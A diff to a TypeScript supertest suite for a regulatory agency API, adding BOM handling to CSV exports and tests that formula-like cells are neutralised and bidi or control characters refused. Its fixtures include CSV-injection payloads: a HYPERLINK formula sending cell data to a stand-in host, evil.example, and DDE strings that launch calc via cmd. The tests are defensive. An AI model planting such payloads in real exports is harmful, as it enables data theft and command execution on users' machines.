@@ -2,8 +2,8 @@
 import request from 'supertest';
 import type { App } from 'supertest/types';
 import { parse } from 'csv-parse/sync';
-import { actors, bearer, startTestApp, type TestApp } from './support/app';
-import { approvedAgency, assess, regulatorOf } from './support/grading';
+import { actors, bearer, registrationBody, startTestApp, type TestApp } from './support/app';
+import { approvedAgency, assess, newUscc, regulatorOf } from './support/grading';
 import { HOOK_TIMEOUT_MS } from './support/timeouts';
 
 describe('exports', () => {
@@ -59,7 +59,7 @@ describe('exports', () => {
       .set('Authorization', bearer(actors.auditor))
       .expect(200);
     expect(res.headers['content-type']).toMatch(/^text\/csv/);
-    const rows = parse(res.text, { columns: true }) as Record<string, string>[];
+    const rows = parse(res.text, { columns: true, bom: true }) as Record<string, string>[];
     expect(rows).toHaveLength(2);
     expect(rows[0]).toMatchObject({
       统一社会信用代码: bj,
@@ -76,7 +76,7 @@ describe('exports', () => {
           .set('Authorization', beijing)
           .expect(200)
       ).text,
-      { columns: true },
+      { columns: true, bom: true },
     );
     expect((own as Record<string, string>[]).map((r) => r['统一社会信用代码'])).toEqual([bj]);
   });
@@ -115,7 +115,7 @@ describe('exports', () => {
     const res = await request(http)
       .get('/api/v1/exports/grades?jurisdiction=beijing&year=2025')
       .expect(200);
-    const rows = parse(res.text, { columns: true }) as Record<string, string>[];
+    const rows = parse(res.text, { columns: true, bom: true }) as Record<string, string>[];
     expect(rows).toEqual([
       expect.objectContaining({
         统一社会信用代码: bj,
@@ -134,5 +134,128 @@ describe('exports', () => {
         .trim()
         .split('\n'),
     ).toHaveLength(1);
+  });
+});
+
+describe('exports are safe to open in a spreadsheet (issue 9)', () => {
+  let t: TestApp;
+  let http: App;
+  let uscc: string;
+  const auditor = bearer(actors.auditor);
+  const formulaName = '=HYPERLINK("http://evil.example/?d="&A1,"点击")';
+
+  beforeAll(async () => {
+    t = await startTestApp('exports-safe');
+    http = t.app.getHttpServer();
+    uscc = await approvedAgency(http, 'jiaxing', { name: formulaName });
+    await request(http)
+      .post(`/api/v1/agencies/${uscc}/penalties`)
+      .set('Authorization', regulatorOf('jiaxing'))
+      .send({
+        decisionNumber: '-2+3',
+        decidedAt: '2026-03-01',
+        violationType: 'other',
+        legalBasis: "+cmd|' /C calc'!A0",
+        content: '\t罚款, 责令改正',
+        authority: "@SUM(1+1)*cmd|' /C calc'!A0",
+        fineYuan: 1000,
+      })
+      .expect(201);
+  }, HOOK_TIMEOUT_MS);
+  afterAll(() => t.close(), HOOK_TIMEOUT_MS);
+
+  const penaltiesCsv = (query = '') =>
+    request(http)
+      .get(`/api/v1/exports/penalties${query}`)
+      .set('Authorization', auditor)
+      .buffer(true)
+      .parse((res, done) => {
+        const chunks: Buffer[] = [];
+        res.on('data', (chunk: Buffer) => chunks.push(chunk));
+        res.on('end', () => done(null, Buffer.concat(chunks)));
+      })
+      .expect(200);
+
+  it('starts every CSV with a UTF-8 BOM, unless bom=false', async () => {
+    const withBom = (await penaltiesCsv()).body as Buffer;
+    expect([...withBom.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+    expect(withBom.subarray(3).toString('utf8')).toMatch(/^行政相对人名称,/);
+    const without = (await penaltiesCsv('?bom=false')).body as Buffer;
+    expect(without.toString('utf8')).toMatch(/^行政相对人名称,/);
+    const grades = await request(http).get('/api/v1/exports/grades?year=2025').expect(200);
+    expect(grades.text.charCodeAt(0)).toBe(0xfeff);
+    const bad = await request(http).get('/api/v1/exports/grades?bom=yes').expect(400);
+    expect(bad.body.message).toEqual(['bom: must be one of true, false']);
+  });
+
+  it('prefixes a single quote to every cell a spreadsheet would take for a formula', async () => {
+    const text = ((await penaltiesCsv()).body as Buffer).toString('utf8');
+    const [row] = parse(text, { columns: true, bom: true }) as Record<string, string>[];
+    expect(row).toMatchObject({
+      行政相对人名称: `'${formulaName}`,
+      统一社会信用代码: uscc,
+      行政处罚决定书文号: "'-2+3",
+      处罚依据: "'+cmd|' /C calc'!A0",
+      处罚内容: "'\t罚款, 责令改正",
+      处罚机关: "'@SUM(1+1)*cmd|' /C calc'!A0",
+      '罚款金额（万元）': '0.1',
+    });
+    // NDJSON is data for programs, not a spreadsheet: as recorded.
+    const ndjson = await request(http)
+      .get('/api/v1/exports/penalties?format=ndjson')
+      .set('Authorization', auditor)
+      .expect(200);
+    expect(JSON.parse(ndjson.text.trim())).toMatchObject({ 行政相对人名称: formulaName });
+  });
+
+  it.each([
+    [
+      'a bidirectional override',
+      'name',
+      '北京\u202E司公限有技科',
+      'bidirectional override characters (U+202E)',
+    ],
+    ['an isolate', 'name', '北京\u2066环测', 'bidirectional override characters (U+2066)'],
+    ['a C0 control', 'name', '北京\u0007环测', 'control characters (U+0007)'],
+    ['a C1 control', 'name', '北京\u009B环测', 'control characters (U+009B)'],
+    ['a line break', 'name', '北京\n环测', 'must be on one line, without tabs (U+000A)'],
+    ['a tab', 'name', '北京\t环测', 'must be on one line, without tabs (U+0009)'],
+    ['NUL', 'name', '北京\u0000环测', 'NUL character (U+0000)'],
+    ['a lone surrogate', 'name', '北京\ud800环测', 'unpaired surrogate U+D800'],
+  ])('refuses an agency name with %s, naming the field', async (_what, field, value, said) => {
+    const code = newUscc('beijing');
+    const res = await request(http)
+      .post('/api/v1/agencies')
+      .set('Authorization', bearer(actors.agency(code)))
+      .send({ ...registrationBody(code), [field]: value })
+      .expect(400);
+    expect(res.body.message).toEqual([expect.stringMatching(new RegExp(`^${field}: `))]);
+    expect(res.body.message[0]).toContain(said);
+    await request(http).get(`/api/v1/agencies/${code}`).set('Authorization', auditor).expect(404);
+  });
+
+  it('refuses them in the other free texts too, naming the path', async () => {
+    const res = await request(http)
+      .post(`/api/v1/agencies/${uscc}/inspections`)
+      .set('Authorization', regulatorOf('jiaxing'))
+      .send({
+        inspectedAt: '2026-03-02',
+        method: 'on-site',
+        findings: [{ code: 'other', description: '记录\u202E不全' }],
+      })
+      .expect(400);
+    expect(res.body.message).toEqual([
+      'findings.0.description: must not contain bidirectional override characters (U+202E)',
+    ]);
+    // Prose may break lines.
+    await request(http)
+      .post(`/api/v1/agencies/${uscc}/inspections`)
+      .set('Authorization', regulatorOf('jiaxing'))
+      .send({
+        inspectedAt: '2026-03-02',
+        method: 'on-site',
+        findings: [{ code: 'other', description: '原始记录不完整；\n样品标签缺失' }],
+      })
+      .expect(201);
   });
 });
